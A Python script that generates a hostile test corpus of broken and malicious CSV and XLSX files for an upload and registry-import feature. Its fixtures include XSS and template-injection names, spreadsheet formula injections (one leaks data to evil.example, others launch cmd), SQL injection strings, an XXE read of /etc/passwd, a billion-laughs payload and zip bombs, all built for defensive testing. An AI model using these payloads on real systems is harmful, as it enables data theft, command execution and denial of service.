"""The hostile corpus: broken, malicious and merely odd files for the release-list upload and the
registry import.

The small files are committed under ``tests/hostile/lists/`` and ``tests/hostile/registry/``;
run this script to write them again (``python -m tests.hostile.make_corpus``). The big ones (a
million-row CSV, XLSX zip bombs) are made by ``big_files(folder)`` in a temporary folder at test
time, so that nothing huge is committed. Every byte is deterministic except the timestamps
openpyxl writes into an XLSX.
"""

from __future__ import annotations

import codecs
import io
import random
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

HERE = Path(__file__).resolve().parent
LIST_HEADER = "№;ПІБ;Дата народження;в/ч\n"
GOOD_ROWS = "1;Гнатюк Дмитро Юрійович;03.12.1998;А1234\n2;Коваль Іван Петрович;;\n"
REGISTRY_HEADER = (
    "external_id,family_name,given_name,patronymic,date_of_birth,sex,citizenship,category,"
    "military_unit,service_number,status\n"
)
REGISTRY_ROW = "R{n},Гнатюк,Дмитро,Юрійович,03.12.1998,m,UA,serviceman,А1234,{n:06d},captive\n"
MARKUP_NAMES = (
    "<script>alert('x')</script> Шевченко",
    '"><img src=x onerror=alert(1)> Коваль',
    "<svg/onload=alert(1)> Бондар",
    "Ткач </td></tr><h1>Ткач</h1>",
    "{{ 7*7 }} {% debug %} Мельник",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Коваль")',
    "=1+2 Шевченко",
    "+cmd|' /C calc'!A0 Бондар",
    "-2+3 Мельник",
    "@SUM(1+1)*cmd|' /C calc'!A0 Ткач",
)


def _list(rows: str, header: str = LIST_HEADER) -> bytes:
    return (header + rows).encode()


def _xlsx(rows: Sequence[Sequence[object]]) -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(list(row))
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _with_sheet_xml(xlsx: bytes, sheet_xml: str) -> bytes:
    """The same workbook with its first sheet's XML replaced."""
    source, out = zipfile.ZipFile(io.BytesIO(xlsx)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = sheet_xml.encode()
            target.writestr(info.filename, data)
    return out.getvalue()


LATIN1 = "No;Name;Born\n1;Müller Jürgen;01.01.1990\n2;Ødegård Åse;\n"
XXE = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>ПІБ</t></is></c></row>
<row r="2"><c r="A2" t="inlineStr"><is><t>&secret;</t></is></c></row>
</sheetData></worksheet>"""
LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>ПІБ</t></is></c></row>
<row r="2"><c r="A2" t="inlineStr"><is><t>&lol3;</t></is></c></row>
</sheetData></worksheet>"""


def list_files() -> dict[str, bytes]:
    """Release lists, by file name."""
    junk = random.Random(8).randbytes(4096)
    utf16_nul = "ПІБ;Дата\nКоваль\x00 Іван;01.01.1990\nГнатюк Дмитро;\n".encode("utf-16")
    return {
        "empty.csv": b"",
        "bom-only.csv": codecs.BOM_UTF8,
        "utf16-bom-only.csv": codecs.BOM_UTF16_LE,
        "blank-lines-only.csv": b"  \n\n \t \n;;;\n",
        "header-only.csv": _list(""),
        "no-name-column.csv": "Дата народження;в/ч\n01.01.1990;А1\n".encode(),
        "headers-missing.csv": "Гнатюк Дмитро;03.12.1998\nКоваль Іван;01.01.1990\n".encode(),
        "binary-junk.csv": junk,
        "nul-bytes.csv": _list("1;Коваль\x00Іван;;\n2;Гнатюк\x00\x00;;\n"),
        "utf16-with-nul.csv": utf16_nul,
        "control-characters.csv": _list("1;Ко\x01ва\x02ль\x03 \x04І\x05ва\x06н;;\n"),
        "png-named-csv.csv": b"\x89PNG\r\n\x1a\n" + junk[:200],
        "pdf-named-csv.csv": b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n" + junk[:300],
        "old-excel.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
        "truncated-xlsx.xlsx": _xlsx([["ПІБ"], ["Коваль Іван"]])[:700],
        "zip-not-xlsx.xlsx": _zip({"readme.txt": b"not a workbook"}),
        "xlsx-xxe.xlsx": _with_sheet_xml(_xlsx([["ПІБ"], ["Коваль Іван"]]), XXE),
        "xlsx-billion-laughs.xlsx": _with_sheet_xml(_xlsx([["ПІБ"], ["x"]]), LAUGHS),
        "xlsx-empty-workbook.xlsx": _xlsx([]),
        "xlsx-formulas.xlsx": _xlsx([["ПІБ", "Дата народження"], *[[f, ""] for f in FORMULAS]]),
        "xlsx-markup-names.xlsx": _xlsx([["ПІБ"], *[[n] for n in MARKUP_NAMES]]),
        "formula-cells.csv": _list(
            "".join(
                f'{i};"{f.replace(chr(34), 2 * chr(34))}";;\n' for i, f in enumerate(FORMULAS, 1)
            )
        ),
        "markup-names.csv": _list(
            "".join(
                f'{i};"{n.replace(chr(34), 2 * chr(34))}";;\n'
                for i, n in enumerate(MARKUP_NAMES, 1)
            )
        ),
        "sql-and-template-names.csv": _list(
            "1;'; DROP TABLE captives_captive; -- Коваль;;\n2;Robert'); DELETE FROM x;-- Іван;;\n"
        ),
        "overlong-names.csv": _list("".join(f"{i};{'Ш' * 5000} Іван;;\n" for i in range(1, 4))),
        "one-overlong-name.csv": _list(GOOD_ROWS + f"3;{'Ш' * 400} Іван;;\n"),
        "overlong-cell.csv": _list(f"1;Коваль Іван;;{'А' * 200_000}\n"),
        "impossible-dates.csv": _list(
            "1;Коваль Іван;31.02.1990;\n2;Гнатюк Дмитро;00.00.0000;\n"
            "3;Бондар Олег;32.13.1990;\n4;Ткач Петро;29.02.2023;\n5;Мельник Юрій;1990-02-30;\n"
        ),
        "duplicate-lines.csv": _list(GOOD_ROWS + GOOD_ROWS.replace("1;", "3;").replace("2;", "4;")),
        "mixed-delimiters.csv": "№;ПІБ,Дата народження\t в/ч\n1;Коваль Іван,01.01.1990\tА1\n"
        "2,Гнатюк Дмитро;03.12.1998\n".encode(),
        "unclosed-quote.csv": _list('1;"Коваль Іван;01.01.1990;\n2;Гнатюк Дмитро;;\n'),
        "numbers-for-names.csv": _list("1;12345;;\n2;--- ...;;\n3;0000;;\n"),
        "cp1251.csv": (LIST_HEADER + GOOD_ROWS).encode("cp1251"),
        "koi8-u.csv": (LIST_HEADER + GOOD_ROWS).replace("№", "N").encode("koi8_u"),
        "utf16-le-no-bom.csv": (LIST_HEADER + GOOD_ROWS).encode("utf-16-le"),
        "latin1-wrong-encoding.csv": LATIN1.encode("latin-1"),
        "utf8-mixed-with-cp1251.csv": _list(GOOD_ROWS) + "3;Ткач Олег;;\n".encode("cp1251"),
        "old-mac-line-endings.csv": (LIST_HEADER + GOOD_ROWS).replace("\n", "\r").encode(),
        "bidi-and-zero-width.csv": _list("1;Ко\u200bваль \u202eІван;;\n2;Гнатюк\ufeff Дмитро;;\n"),
        "decomposed-unicode.csv": _list("1;Гнатюк Дмитро Андрійович;;\n2;Коваль Ии\u0306;;\n"),
        "emoji-names.csv": _list("1;Коваль Іван 🇺🇦;;\n2;😀😀😀;;\n"),
        "ten-thousand-columns.csv": (
            ";".join(["ПІБ", *(f"c{i}" for i in range(10_000))])
            + "\n"
            + ";".join(["Коваль Іван", *("x" * 10_000)])
            + "\n"
        ).encode(),
        "duplicate-numbers.csv": _list(GOOD_ROWS + GOOD_ROWS.replace("Гнатюк", "Ткач")),
        "header-again-midway.csv": _list(GOOD_ROWS + LIST_HEADER + "3;Ткач Олег;;\n"),
        "newlines-inside-cells.csv": _list('1;"Коваль\nІван\r\nПетрович";;\n2;Гнатюк Дмитро;;\n'),
    }


def registry_files() -> dict[str, bytes]:
    """Registry import files, by file name."""
    good = REGISTRY_HEADER + REGISTRY_ROW.format(n=1) + REGISTRY_ROW.format(n=2)
    return {
        "empty.csv": b"",
        "bom-only.csv": codecs.BOM_UTF8,
        "binary-junk.csv": random.Random(9).randbytes(2048),
        "missing-columns.csv": b"external_id,family_name\nR1,X\n",
        "header-only.csv": REGISTRY_HEADER.encode(),
        "empty-required-cell.csv": (good + "R3,,Іван,,,m,UA,serviceman,,,captive\n").encode(),
        "impossible-date.csv": (
            good + REGISTRY_ROW.format(n=3).replace("03.12.1998", "31.02.1990")
        ).encode(),
        "giant-year.csv": (
            good + REGISTRY_ROW.format(n=3).replace("03.12.1998", "01.01.99999999999999999999999")
        ).encode(),
        "date-words.csv": (
            good + REGISTRY_ROW.format(n=3).replace("03.12.1998", "yesterday")
        ).encode(),
        "bad-category.csv": (
            good + REGISTRY_ROW.format(n=3).replace("serviceman", "<b>spy</b>")
        ).encode(),
        "bad-status.csv": (
            good + REGISTRY_ROW.format(n=3).replace(",captive", ",escaped")
        ).encode(),
        "duplicate-external-id.csv": (good + REGISTRY_ROW.format(n=1)).encode(),
        "overlong-external-id.csv": (
            good + REGISTRY_ROW.format(n=3).replace("R3", "R" * 500)
        ).encode(),
        "overlong-family-name.csv": (
            good + REGISTRY_ROW.format(n=3).replace("Гнатюк", "Г" * 500)
        ).encode(),
        "nul-in-name.csv": (
            good.encode() + REGISTRY_ROW.format(n=3).replace("Гнатюк", "Гна\x00тюк").encode()
        ),
        "markup-names.csv": (
            REGISTRY_HEADER
            + "".join(
                f'M{i},"{n.replace(chr(34), 2 * chr(34))}",Іван,,,m,UA,serviceman,,,captive\n'
                for i, n in enumerate(MARKUP_NAMES, 1)
            )
        ).encode(),
        "formula-cells.csv": (
            REGISTRY_HEADER
            + "".join(
                f'F{i},"{f.replace(chr(34), 2 * chr(34))}",Іван,,,m,UA,serviceman,,,captive\n'
                for i, f in enumerate(FORMULAS, 1)
            )
        ).encode(),
        "cp1251.csv": good.encode("cp1251"),
        "bad-last-row.csv": (
            good
            + "R3,Ткач,Олег,,,m,UA,serviceman,,,captive\n"
            + "R4,Бондар,Олег,,,x,UA,serviceman,,,captive\n"
        ).encode(),
    }


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _million_rows(path: Path) -> None:
    with path.open("w", encoding="utf-8") as out:
        out.write(LIST_HEADER)
        for n in range(1, 1_000_001):
            out.write(f"{n};Коваль Іван;01.01.1990;А1\n")


def _too_many_rows(path: Path) -> None:  # under the size limit, over the row limit
    path.write_bytes(b"N;Name\n" + b"".join(b"%d;Ab\n" % n for n in range(1, 250_001)))


def _xlsx_bomb(path: Path) -> None:
    """A workbook whose one sheet unpacks to 300 MB of blank XML from a few hundred kilobytes."""
    real = zipfile.ZipFile(io.BytesIO(_xlsx([["ПІБ"], ["Коваль Іван"]])))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for info in real.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with archive.open(info.filename, "w", force_zip64=True) as sheet:
                    block = b" " * (1 << 20)
                    for _ in range(300):
                        sheet.write(block)
            else:
                archive.writestr(info.filename, real.read(info.filename))


def _xlsx_ratio_bomb(path: Path) -> None:
    """Small in absolute terms (8 MB unpacked) but a thousand times its packed size."""
    path.write_bytes(_zip({"[Content_Types].xml": b"<x/>", "xl/sheet.xml": bytes(8 << 20)}))


BIG: dict[str, Callable[[Path], None]] = {
    "million-rows.csv": _million_rows,
    "too-many-rows.csv": _too_many_rows,
    "xlsx-zip-bomb.xlsx": _xlsx_bomb,
    "xlsx-ratio-bomb.xlsx": _xlsx_ratio_bomb,
}


def big_files(folder: Path) -> dict[str, Path]:
    """Writes the big list files into ``folder`` (once) and returns their paths by name."""
    paths = {}
    for name, make in BIG.items():
        path = folder / name
        if not path.exists():
            make(path)
        paths[name] = path
    return paths


def write_small_files() -> None:
    for folder, files in (("lists", list_files()), ("registry", registry_files())):
        (HERE / folder).mkdir(exist_ok=True)
        for name, data in files.items():
            (HERE / folder / name).write_bytes(data)


if __name__ == "__main__":
    write_small_files()
